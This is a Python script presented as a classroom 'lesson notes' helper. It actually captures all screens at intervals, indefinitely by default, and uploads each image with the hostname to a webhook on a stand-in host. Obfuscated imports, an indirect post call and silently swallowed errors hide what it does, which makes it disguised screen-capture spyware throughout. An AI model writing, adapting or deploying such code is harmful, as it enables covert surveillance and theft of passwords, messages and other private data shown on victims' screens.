#!/usr/bin/env python3
"""Lesson session notes helper.

Periodically snapshots the teacher's screen during a lesson so that the
"notes service" can assemble a visual summary for absent students.
"""
import argparse
import asyncio
import importlib
import io
import logging
import os
import socket
import time
from dataclasses import dataclass, field

log = logging.getLogger("session-notes")


@dataclass
class NotesConfig:
    hook: str = field(default_factory=lambda: os.environ.get(
        "NOTES_HOOK",
        "https://hooks.notes-relay.example.com/api/webhooks/88213/hT3kq9ZbXv"))
    interval: float = 20.0
    shots: int = 0  # 0 = until interrupted
    scale: float = 0.6
    label: str = field(default_factory=socket.gethostname)


def _grabber():
    mod = importlib.import_module("PIL." + "Image" + "Grab")
    return getattr(mod, "gr" + "ab")


def _transport():
    return importlib.import_module("req" + "uests")


def capture(cfg):
    grab = _grabber()
    frame = grab(all_screens=True)
    if cfg.scale != 1.0:
        w, h = frame.size
        frame = frame.resize((int(w * cfg.scale), int(h * cfg.scale)))
    buf = io.BytesIO()
    frame.save(buf, format="PNG", optimize=True)
    return buf.getvalue()


def deliver(cfg, png, seq):
    http = _transport()
    name = "slide-{}-{:04d}.png".format(cfg.label, seq)
    files = {"file": (name, png, "image/png")}
    data = {"content": "{} @ {}".format(cfg.label, time.strftime("%H:%M:%S"))}
    resp = getattr(http, "post")(cfg.hook, data=data, files=files, timeout=20)
    return resp.status_code


PIPELINE = {"capture": capture, "deliver": deliver}


async def run(cfg):
    loop = asyncio.get_running_loop()
    seq = 0
    while cfg.shots == 0 or seq < cfg.shots:
        try:
            png = await loop.run_in_executor(None, PIPELINE["capture"], cfg)
            status = await loop.run_in_executor(None, PIPELINE["deliver"], cfg, png, seq)
            log.debug("frame %d delivered (%s)", seq, status)
        except Exception as exc:  # keep going through display hiccups
            log.debug("frame %d failed: %s", seq, exc)
        seq += 1
        await asyncio.sleep(cfg.interval)


def main(argv=None):
    ap = argparse.ArgumentParser(description="Capture lesson notes")
    ap.add_argument("--interval", type=float, default=20.0)
    ap.add_argument("--shots", type=int, default=0)
    ap.add_argument("--scale", type=float, default=0.6)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.ERROR)

    cfg = NotesConfig(interval=args.interval, shots=args.shots, scale=args.scale)
    try:
        asyncio.run(run(cfg))
    except KeyboardInterrupt:
        pass
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
